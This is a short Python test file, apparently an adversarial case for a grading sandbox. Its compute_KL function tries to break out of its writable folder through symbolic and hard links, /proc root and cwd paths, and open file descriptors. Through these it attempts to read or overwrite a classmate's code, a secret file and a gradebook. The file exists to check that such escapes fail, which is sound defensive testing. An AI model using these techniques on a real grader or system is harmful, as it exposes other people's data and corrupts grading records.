"""Symbolic and hard links, descriptors of folders and /proc as ways out of a folder in which it may write.

verdict: compute_KL failed|error
must not: write a file
must not: tell a secret
"""

import os
import tempfile

import numpy as np


def compute_KL(q):
    own = []
    for folder in (tempfile.gettempdir(), ".", "@TMP@", "/tmp"):
        try:
            own.append(tempfile.mkdtemp(prefix="npgen-attack", dir=folder))
        except OSError:
            pass
    for folder in own:
        for number, target in enumerate(("@CLASS@/classmate.py", "@RESULTS@/secret", "@RESULTS@/gradebook.csv", "@HOME@")):
            for make in (os.symlink, os.link):
                link = os.path.join(folder, f"{make.__name__}{number}")
                for attempt in (
                    lambda make=make, target=target, link=link: make(target, link),
                    lambda link=link: print("GOT:", open(link).read()),
                    lambda link=link: open(link, "a").write("npgen-attack"),
                    lambda link=link: open(os.path.join(link, "npgen-attack"), "w").close(),
                    lambda link=link: os.chmod(link, 0o777),
                ):
                    try:
                        attempt()
                    except OSError:
                        pass
    for way in ("/proc/self/root", "/proc/self/cwd/../../../../../..", "/proc/1/root", "/proc/thread-self/root"):
        try:
            print("GOT:", open(way + "@CLASS@/classmate.py").read())
        except OSError:
            pass
    for fd in range(64):
        for path in (f"/proc/self/fd/{fd}", f"/dev/fd/{fd}"):
            try:
                if os.readlink(path).startswith("/"):
                    os.listdir(path)
                    print("GOT: a folder", os.readlink(path))
            except OSError:
                pass
    return np.zeros(len(q))
